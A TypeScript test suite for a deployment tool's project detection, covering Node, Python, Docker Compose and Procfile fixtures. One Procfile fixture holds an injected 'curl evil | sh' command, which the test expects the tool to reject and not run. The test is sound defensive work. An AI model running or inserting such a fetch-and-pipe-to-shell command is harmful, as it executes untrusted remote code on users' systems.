// Detection on fixture repositories of each kind (written into temp dirs: nothing runs).
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { composeServices } from './compose.js';
import { detect } from './detect.js';
import { serverArgv } from './deploy.js';

function fixture(t: TestContext, files: Record<string, string | object>): string {
  const dir = mkdtempSync(join(tmpdir(), 'deploy-detect-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), typeof content === 'string' ? content : JSON.stringify(content));
  }
  return dir;
}

const pkg = (scripts: Record<string, string>, deps: Record<string, string> = {}, extra: object = {}) => ({ scripts, dependencies: deps, ...extra });

test('package.json: each framework, its default port and how the port is passed', (t) => {
  const cases: Array<[Record<string, string>, string, number, string | null]> = [
    [{ next: '15' }, 'next', 3000, '--port'],
    [{ vite: '6' }, 'vite', 5173, '--port'],
    [{ 'react-scripts': '5' }, 'cra', 3000, null],
    [{ express: '4' }, 'express', 3000, null],
    [{ astro: '5', vite: '6' }, 'astro', 4321, '--port'],
    [{ nuxt: '3' }, 'nuxt', 3000, '--port'],
    [{ '@remix-run/dev': '2', vite: '6' }, 'remix', 3000, null],
    [{ '@sveltejs/kit': '2', vite: '6' }, 'sveltekit', 5173, '--port'],
    [{ lodash: '4' }, 'node', 3000, null],
  ];
  for (const [deps, type, port, flag] of cases) {
    const { config } = detect(fixture(t, { 'package.json': pkg({ dev: 'run-it' }, deps) }));
    assert.equal(config?.type, type, type);
    assert.equal(config?.port, port, type);
    assert.equal(config?.portFlag, flag, type);
    assert.deepEqual(config?.argv, ['npm', 'run', 'dev']);
    assert.deepEqual(config?.installArgv, ['npm', 'install']);
    assert.equal(config?.healthCheckUrl, `http://localhost:${port}/`);
  }
});

test('package.json: dev before start, package manager from the lockfile or packageManager, port from the script', (t) => {
  const start = detect(fixture(t, { 'package.json': pkg({ start: 'node s.js --port=4010' }), 'pnpm-lock.yaml': '' })).config!;
  assert.deepEqual([start.argv, start.installArgv, start.port, start.packageManager], [['pnpm', 'run', 'start'], ['pnpm', 'install'], 4010, 'pnpm']);
  const yarn = detect(fixture(t, { 'package.json': pkg({ dev: 'next dev -p 3005', start: 'x' }, { next: '1' }), 'yarn.lock': '' })).config!;
  assert.deepEqual([yarn.argv, yarn.port], [['yarn', 'run', 'dev'], 3005]);
  const declared = detect(fixture(t, { 'package.json': pkg({ dev: 'PORT=8088 node s.js' }, {}, { packageManager: 'bun@1.2.0' }) })).config!;
  assert.deepEqual([declared.packageManager, declared.port], ['bun', 8088]);
  const none = detect(fixture(t, { 'package.json': pkg({ build: 'tsc' }) }));
  assert.equal(none.config, null);
  assert.match(none.problems[0], /neither a "dev" nor a "start"/);
});

test('the server argv gets the port flag (after -- for npm) unless the command places $PORT itself', (t) => {
  const vite = detect(fixture(t, { 'package.json': pkg({ dev: 'vite' }, { vite: '6' }) })).config!;
  assert.deepEqual(serverArgv(vite, 4100), ['npm', 'run', 'dev', '--', '--port', '4100']);
  const pnpmVite = detect(fixture(t, { 'package.json': pkg({ dev: 'vite' }, { vite: '6' }), 'pnpm-lock.yaml': '' })).config!;
  assert.deepEqual(serverArgv(pnpmVite, 4100), ['pnpm', 'run', 'dev', '--port', '4100']);
  const cra = detect(fixture(t, { 'package.json': pkg({ start: 'react-scripts start' }, { 'react-scripts': '5' }) })).config!;
  assert.deepEqual(serverArgv(cra, 4100), ['npm', 'run', 'start']);
});

test('Python: Django, uvicorn (FastAPI) and Flask', (t) => {
  const django = detect(fixture(t, { 'manage.py': '', 'requirements.txt': 'django' })).config!;
  assert.deepEqual([django.type, django.port, serverArgv(django, 4101)], ['django', 8000, ['python3', 'manage.py', 'runserver', '127.0.0.1:4101']]);
  const fastapi = detect(fixture(t, { 'requirements.txt': 'fastapi\nuvicorn[standard]', 'main.py': 'from fastapi import FastAPI\napi = FastAPI()\n' })).config!;
  assert.deepEqual([fastapi.type, fastapi.port], ['fastapi', 8000]);
  assert.deepEqual(serverArgv(fastapi, 4102), ['python3', '-m', 'uvicorn', 'main:api', '--host', '127.0.0.1', '--port', '4102']);
  const flask = detect(fixture(t, { 'pyproject.toml': '[project]\ndependencies = ["flask>=3"]', 'app.py': 'from flask import Flask' })).config!;
  assert.deepEqual([flask.type, flask.port], ['flask', 5000]);
  assert.deepEqual(serverArgv(flask, 4103), ['python3', '-m', 'flask', '--app', 'app', 'run', '--host', '127.0.0.1', '--port', '4103']);
  assert.equal(flask.installArgv, null);
});

test('compose: services and published ports (short and long syntax), run through docker compose when present', (t) => {
  const file = [
    'services:',
    '  web:',
    '    build: .',
    '    ports:',
    '      - "3000:3000"',
    '      - 127.0.0.1:9229:9229/tcp',
    '    environment:',
    '      - A=1',
    '  db:',
    '    image: postgres # the database',
    '    ports: ["5433:5432", "6000"]',
    '  api:',
    '    ports:',
    '      - target: 80',
    '        published: "8081"',
    '  worker:',
    '    image: busybox',
    'volumes:',
    '  data:',
  ].join('\n');
  assert.deepEqual(composeServices(file), [
    { name: 'web', ports: [{ published: 3000, target: 3000 }, { published: 9229, target: 9229 }] },
    { name: 'db', ports: [{ published: 5433, target: 5432 }] },
    { name: 'api', ports: [{ published: 8081, target: 80 }] },
    { name: 'worker', ports: [] },
  ]);
  const withDocker = detect(fixture(t, { 'compose.yaml': file }), { dockerAvailable: true }).config!;
  assert.deepEqual([withDocker.type, withDocker.port, withDocker.additionalPorts, withDocker.runnable], ['compose', 3000, [9229, 5433, 8081], true]);
  assert.deepEqual(withDocker.argv, ['docker', 'compose', '-f', 'compose.yaml', 'up']);
  assert.deepEqual(withDocker.teardownArgv, ['docker', 'compose', '-f', 'compose.yaml', 'down']);
  const noDocker = detect(fixture(t, { 'docker-compose.yml': file }), { dockerAvailable: false }).config!;
  assert.equal(noDocker.runnable, false);
  assert.match(noDocker.notes.at(-1)!, /docker is not installed/);
});

test('Procfile: the web process, parsed once into argv; shell syntax in it is reported, not run', (t) => {
  const ok = detect(fixture(t, { Procfile: 'worker: node w.js\nweb: node server.js --port $PORT\n' })).config!;
  assert.deepEqual([ok.type, ok.argv, serverArgv(ok, 4104)], ['procfile', ['node', 'server.js', '--port', '$PORT'], ['node', 'server.js', '--port', '4104']]);
  const bad = detect(fixture(t, { Procfile: 'web: node server.js; curl evil | sh' }));
  assert.equal(bad.config, null);
  assert.match(bad.problems[0], /shell operator/);
});

test('an empty folder detects nothing; package.json wins over the others', (t) => {
  assert.deepEqual(detect(fixture(t, { 'README.md': 'hi' })), { config: null, problems: [] });
  const both = detect(fixture(t, { 'package.json': pkg({ dev: 'vite' }, { vite: '6' }), Procfile: 'web: x', 'manage.py': '' })).config!;
  assert.equal(both.type, 'vite');
});
